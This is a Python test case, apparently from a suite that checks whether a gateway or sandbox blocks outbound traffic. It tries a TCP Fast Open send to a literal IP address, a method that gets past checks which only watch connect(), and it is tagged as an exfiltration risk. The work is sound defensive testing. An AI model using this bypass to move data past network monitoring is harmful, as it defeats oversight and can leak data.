"""Data in the first packet of a connection.

TCP fast open sends with the SYN, before any connection stands, by sendto and not by connect: a check
that waits for connect() sees nothing.

Not covered: whether data stood in the first packet; the kernel decides that by a cookie of the server.
"""

import socket

ATTACK = {
    "title": "Data before the connection (fast open)",
    "group": "roads",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["RFC 7413", "tcp(7) MSG_FASTOPEN"],
    "arrives": [{"what": "tcp", "address": "93.184.216.66"}],
    "stopped": [
        {"reason": ["literal-address"], "entry": ["transparent"], "where": {"address": "93.184.216.66"}}
    ],
}


def attempt(kit):
    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
            stream.sendto(
                kit.get("/fast", "93.184.216.66").encode(), socket.MSG_FASTOPEN, ("93.184.216.66", 80)
            )
            stream.settimeout(4)
            return stream.recv(200).decode("latin-1")

    kit.do("fast open", send)
